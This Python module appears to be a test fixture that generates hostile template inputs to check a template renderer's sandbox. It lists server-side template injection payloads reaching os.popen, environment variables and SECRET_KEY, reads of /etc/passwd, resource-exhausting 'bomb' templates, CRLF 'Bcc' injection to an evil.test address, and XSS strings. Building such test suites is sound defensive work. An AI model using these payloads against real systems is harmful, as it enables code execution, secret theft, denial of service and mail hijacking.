"""Templates that somebody hostile would write: probes for what must not be told, and bombs.

Made from patterns, so that each pattern is tried on each of what it could be aimed at.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_SECRETS = (
    *("person.password", "person.date_of_birth", "person.personal_email", "person.external_id"),
    *("person.raw_payload", "person.__dict__", "person._state.db", "person.objects.all"),
    *("person.source_records", "person.known_at", "settings.SECRET_KEY", "env.SECRET_KEY"),
    *("request.META.HTTP_COOKIE", "request.user.password", "connection.secrets_token"),
    *("workflow.draft", "run.snapshot", "run.person.date_of_birth", "user.password"),
)
_ASKED = (
    "{{ %s }}",
    "{{ %s | default: 'x' | append: '' }}",
    "{%% assign x = %s %%}{{ x }}",
    "{%% for x in %s %%}{{ x }}{%% endfor %%}",
    "{%% capture x %%}{{ %s }}{%% endcapture %%}{{ x | upcase | downcase }}",
)
_CONTAINERS = ("person", "manager", "run", "workflow", "request", "person.custom", "request.form")
_TURNED_OUT = (
    "{{ %s }}",
    "{{ %s | first }}",
    "{{ %s.first }}",
    "{{ %s | last }}",
    "{{ %s | join: ',' }}",
    "{{ %s | map: 'date_of_birth' | join }}",
    "{{ %s | sort | join }}",
    "{%% for x in %s %%}{{ x[1] }}{%% endfor %%}",
)
_ENGINES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{{ request.application.__globals__.__builtins__.__import__('os') }}",
    "{{ get_flashed_messages.__globals__.current_app.config }}",
    "{{ url_for.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ joiner.__init__.__globals__ }}",
    "{% debug %}",
    "{% load static %}{% get_static_prefix %}",
    "{% include 'base.html' %}",
    "{% include '/etc/passwd' %}",
    "{% extends 'base.html' %}",
    "{% render 'x' %}",
    "{% import 'os' as os %}{{ os.environ }}",
    "{% from 'os' import environ %}",
    "{% ssi '/etc/passwd' %}",
    "{{ {}.__class__ }}",
    "{{ 7*7 }}",
    "{{ 'id' | system }}",
    "{{ 'os' | import }}",
    "{{ 'x' | attr: '__class__' }}",
    "${7*7}${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{7*7}%{7*7}[[${7*7}]]",
    "<%= File.read('/etc/passwd') %>",
    "{{#with 's' as |string|}}{{string.constructor}}{{/with}}",
    "{{constructor.constructor('return process.env')()}}",
    "{{ 'x'.constructor.prototype }}",
    "{0.__class__.__init__.__globals__[settings].SECRET_KEY}",
    "%(SECRET_KEY)s",
    "{{ '{0.__class__}' | format: person }}",
    "{{ person['__class__'] }}",
    "{{ person[person.full_name]['x'] }}",
    "{{ person['date_of_birth'] }}",
    "{{ [person] }}",
    "{% raw %}{{ settings.SECRET_KEY }}{% endraw %}",
    "{% comment %}{{ settings.SECRET_KEY }}{% endcomment %}",
    "{% liquid\n assign x = settings.SECRET_KEY\n echo x\n%}",
    "{% echo settings.SECRET_KEY %}",
    "{{ settings['SECRET_KEY'] }}",
    "{{ forloop.parentloop }}{{ tablerowloop }}",
)
_BOMBS = (
    "{{ 'a' " + "| replace: 'a', 'aaaaaaaaaa' " * 9 + "| size }}",
    "{{ '" + "a" * 2000 + "' | replace: 'a', '" + "b" * 2000 + "' | size }}",
    "{{ '" + "a" * 3000 + "' | replace: '', '" + "b" * 2000 + "' }}",
    "{{ (1..10000000) | join: ',' | size }}",
    "{{ (1..100000000000) | sort | first }}",
    "{{ (1..100000000) | reverse | first }}",
    "{{ (1..100000000) | uniq | size }}",
    "{{ (1..100000000) | sum }}",
    "{% assign x = (1..100000000) %}{{ x | join }}",
    "{% assign a = 'aaaaaaaaaa' %}{% for i in (1..100) %}{% assign a = a | append: a %}{% endfor %}"
    "{{ a }}",
    "{% for i in (1..1000000000) %}x{% endfor %}",
    "{% for i in (1..1000000000) reversed %}x{% endfor %}",
    "{% for i in (1..1000000000) limit: 100000000 %}x{% endfor %}",
    "{% for i in (1..1000) %}{% for j in (1..1000) %}{% for k in (1..1000) %}x"
    "{% endfor %}{% endfor %}{% endfor %}",
    "{% for i in (1..1000) %}{{ 'a' | append: '"
    + "b" * 1000
    + "' | upcase | escape }}{% endfor %}",
    "{% for i in (1..1000) %}x{% endfor %}" * 120,
    "{% for i in (1..1000) %}" + "{% if i == 3 %}x{% endif %}" * 100 + "{% endfor %}",
    "{% tablerow i in (1..100000000) %}x{% endtablerow %}",
    "{% capture x %}{% for i in (1..999) %}" + "a" * 300 + "{% endfor %}{% endcapture %}{{ x }}",
    "{% capture x %}{{ x }}{{ x }}aaaaaaaaaa{% endcapture %}" * 90 + "{{ x }}",
    "{% if true %}" * 300 + "x" + "{% endif %}" * 300,
    "{% for i in (1..2) %}" * 60 + "x" + "{% endfor %}" * 60,
    "{{ a" + ".b" * 5000 + " }}",
    "{{ a" + "[0]" * 3000 + " }}",
    "{{ a" + "[a" * 2000 + "]" * 2000 + " }}",
    "{{ 'a'" + " | upcase" * 1500 + " }}",
    "{% if a" + " and a" * 2000 + " %}x{% endif %}",
    "{% increment x %}" * 1000,
    "{% assign x = '" + "," * 3000 + "' | split: ',' %}{{ x | sort | uniq | reverse | join }}",
    "{{ '" + "<" * 3000 + "' | strip_html | escape | url_encode }}",
    "{{ '" + "&" * 5000 + "' | escape | escape | escape | escape | escape | escape }}",
    "{{ 9 " + "| times: 9999999999 " * 200 + "}}",
    "{{ '" + "9" * 5000 + "' | plus: 1 }}",
    "{{ 1 | divided_by: 0 }}{{ 1 | modulo: 0 }}",
    "{{ '1e400' | times: '1e400' | floor }}",
    "{{ 'nan' | round }}{{ 'inf' | ceil }}",
    "{{ 'x' | slice: -100000000, 100000000 }}{{ 'x' | truncate: 100000000 }}",
    "{{ 'now' | date: '%1000000Y" + "%Y" * 1000 + "' }}",
    "{{ '" + "1" * 4000 + "' | date: '%Y' }}",
    "{{ 'x' | truncatewords: 100000000 }}",
    "{{ '%ff%fe' | url_decode }}{{ '////' | base64_decode }}",
    "{% case 1 %}" + "{% when 2 %}x" * 1000 + "{% endcase %}",
    "\n" * 15_000,
    '"' * 19_000,
    "{{ person.full_name }}" * 250,
)
_SMUGGLED = (
    "{{ person.full_name }}\r\nBcc: evil@evil.test",
    "<script>alert(1)</script>{{ person.full_name }}",
    "<!channel> <@U123> <https://evil.test|click> {{ person.full_name }}",
    "{{ '<script>' | append: 'x' }}{{ '&lt;' | url_decode }}",
    "{{ '%0d%0aBcc:x@evil.test' | url_decode }}",
    "{{ '\\u0000' }}\x00{{ 'a' }}",
    "[click](javascript:alert(1)) {{ person.full_name }}",
)


def hostile_templates() -> Iterator[str]:
    """All of them, each once."""
    seen: set[str] = set()
    asked = (pattern % name for pattern, name in product(_ASKED, _SECRETS))
    turned = (pattern % name for pattern, name in product(_TURNED_OUT, _CONTAINERS))
    for source in (*asked, *turned, *_ENGINES, *_BOMBS, *_SMUGGLED):
        if source not in seen:
            seen.add(source)
            yield source
